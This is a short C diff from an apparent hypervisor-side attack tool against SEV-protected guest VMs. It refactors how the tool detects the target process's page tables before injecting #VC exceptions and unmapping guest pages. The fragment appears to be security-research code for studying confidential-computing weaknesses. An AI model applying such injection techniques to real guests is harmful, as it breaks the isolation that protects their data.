@@ -23,16 +23,16 @@
 #define MARK_END	2
 
 static bool marked;
+static u64 first_process;	/* the page tables of who asks for CPUID first */
 
-static bool in_user_space(const struct save_area *s)
+static u64 page_tables(const struct vcpu *v)
 {
-	static u64 first;
+	return v->vmcb->save.cr3 & PAGE_MASK & ~BIT(machine.cbit);
+}
 
-	if (s->cpl != 3)
-		return false;
-	if (!first)
-		first = s->cr3 & PAGE_MASK;
-	return marked && (s->cr3 & PAGE_MASK) != first;
+static bool in_user_space(const struct vcpu *v)
+{
+	return v->vmcb->save.cpl == 3 && marked && page_tables(v) != first_process;
 }
 
 static void note_mark(const struct ghcb_call *c)
@@ -51,6 +51,8 @@ static void answer(const struct ghcb_call *c, u8 *page)
 	(void)page;
 	if (c->code == EXIT_IOIO)
 		note_mark(c);
+	if (c->code == EXIT_CPUID && attack_phase() == PHASE_KERNEL && !first_process)
+		first_process = page_tables(c->v);
 	if (c->code != EXIT_CPUID || !marked || calls++ % UNMAP_EVERY)
 		return;
 	for (u64 gpa = 0; gpa < machine.ram_low_top; gpa += PAGE_SIZE)
@@ -62,7 +64,7 @@ static void inject_vc(struct vcpu *v)
 	u32 code = option_u64("code", CODE_DEFAULT);
 	u64 after = option_u64("after", 0);
 
-	if (option_u64("user", 0) && !in_user_space(&v->vmcb->save))
+	if (option_u64("user", 0) && !in_user_space(v))
 		return;
 	if (after && v->vmcb->exit_code != after)
 		return;
